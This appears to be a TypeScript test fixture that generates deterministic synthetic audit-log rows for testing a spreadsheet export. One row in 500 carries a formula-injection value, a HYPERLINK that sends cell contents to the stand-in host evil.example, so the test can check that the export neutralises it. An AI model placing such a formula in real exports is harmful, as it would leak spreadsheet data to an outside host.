// Synthetic audit events shaped like the audit log export: the same columns,
// realistic lengths, and a few values that need neutralising. A seeded
// generator makes every run write the same rows.
import type { ExportColumn } from '../../core/export/export-column.js';

export const auditColumns: ExportColumn[] = [
  { header: 'Time', key: 'occurredAt', width: 24 },
  { header: 'Actor', key: 'actor', width: 32 },
  { header: 'Organization', key: 'organization', width: 28 },
  { header: 'Activity', key: 'activity', width: 20 },
  { header: 'Event', key: 'event', width: 16 },
  { header: 'Information type', key: 'informationType', width: 20 },
  { header: 'Target', key: 'target', width: 32 },
  { header: 'IP address', key: 'ip', width: 18 },
  { header: 'Device ID', key: 'deviceId', width: 38 },
  { header: 'User agent', key: 'userAgent', width: 60 },
  { header: 'Details', key: 'details', width: 60 },
];

const ORGANIZATIONS = [
  'Head office / Human resources',
  'Head office / Finance / Payroll',
  'Osaka branch / Sales',
  '東京本社 / 人事部',
  'Remote / Engineering / Platform',
];
const ACTIVITIES = [
  ['authentication', 'signed_in', null],
  ['personal_information', 'viewed', 'income'],
  ['personal_information', 'edited', 'contract'],
  ['personal_information', 'downloaded', 'social_insurance'],
  ['permission', 'granted', null],
  ['security_setting', 'changed', null],
] as const;
const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
];

/** mulberry32: small, fast and good enough for test data. */
function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/**
 * Yields `count` audit-like rows one at a time, as a database cursor would.
 * One target in 500 looks like a formula and one in 50 has a Japanese name.
 */
export async function* auditRows(
  count: number,
): AsyncGenerator<Record<string, unknown>> {
  const random = seeded(20_240_501);
  const pick = <T>(list: readonly T[]): T =>
    list[Math.floor(random() * list.length)] as T;
  const hex = (digits: number): string =>
    Math.floor(random() * 16 ** digits)
      .toString(16)
      .padStart(digits, '0');
  const start = Date.UTC(2024, 4, 1);

  for (let index = 0; index < count; index += 1) {
    const [activity, event, informationType] = pick(ACTIVITIES);
    const member = Math.floor(random() * 50_000);
    const target =
      index % 500 === 0
        ? '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
        : index % 50 === 0
          ? `山田 太郎 ${member}`
          : `member${member}@acme.example.com`;

    yield {
      occurredAt: new Date(start + index * 1_500),
      actor: `admin${Math.floor(random() * 400)}@acme.example.com`,
      organization: pick(ORGANIZATIONS),
      activity,
      event,
      informationType,
      target,
      ip: `203.0.${Math.floor(random() * 256)}.${Math.floor(random() * 256)}`,
      deviceId: `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`,
      userAgent: pick(USER_AGENTS),
      details: {
        requestId: hex(16),
        fields: ['base_salary', 'bank_account'],
        reason: event === 'downloaded' ? 'Year-end tax adjustment' : null,
      },
    };
  }
}
